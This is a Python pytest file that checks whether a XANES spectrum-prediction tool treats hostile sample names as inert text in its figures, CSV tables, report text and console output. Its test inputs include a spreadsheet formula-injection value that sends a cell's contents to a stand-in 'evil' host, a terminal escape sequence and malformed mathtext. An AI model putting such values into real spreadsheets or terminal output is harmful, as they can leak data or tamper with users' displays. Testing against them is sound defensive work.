"""Names of samples are data in pictures, tables and words."""

import pandas as pd
import pytest

from firstshell.errors import InputError
from firstshell.measured.read import read_samples
from firstshell.prediction.answer import answer
from firstshell.report.answer_table import frame
from firstshell.report.figures.answer import save_pictures
from firstshell.report.words.answer import line, paragraph
from firstshell.runtime.console import plain
from firstshell.runtime.spreadsheet import write_table
from quick import write_xdi

pytestmark = pytest.mark.slow

NAMES = ["$\\frac{1$ oxide", '=HYPERLINK("http://evil/?"&A1,"x")', "\x1b]0;PWNED\x07\x1b[31mred"]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_shown_and_does_nothing(name, xanes_model, tmp_path):
    path = write_xdi(tmp_path / "a.xdi")
    path.write_text(path.read_text().replace("# Element.edge", f"# Sample.name: {name}\n# Element.edge"))
    found = answer(xanes_model, read_samples([path]).samples, "none")
    (png, *_) = save_pictures(found, found * 2, [], tmp_path / "out")
    assert png.read_bytes().startswith(b"\x89PNG")
    csv, _ = write_table(frame(found), tmp_path / "out" / "answers")
    (cell,) = pd.read_csv(csv)["sample"]
    shown = paragraph(found[0]) + line(found[0])
    assert "\x1b" not in shown + (tmp_path / "out" / "sample_01.svg").read_text(encoding="utf-8")
    assert cell == (f"'{name}" if name.startswith("=") else plain(found[0].sample.name))
    assert plain(found[0].sample.name) in shown


def test_hostile_names_of_the_collection(command, shared, xanes_model, tmp_path, monkeypatch):
    """The files that once crashed pictures and coloured terminals."""
    from firstshell.prediction import model_cache

    monkeypatch.setattr(model_cache, "predictor", lambda *_, **__: xanes_model)
    monkeypatch.setattr("firstshell.measured.read.extract", _no_exafs)
    for name in ("mathtext", "esc", "formula"):
        status, out, err = command("predict", shared / "cases/hostile" / f"{name}.xdi", "--out", tmp_path / name)
        assert (status, "\x1b" in out + err) == (0, False), err


def _no_exafs(scan):
    raise InputError("the model is one of XANES alone", remedy="None")
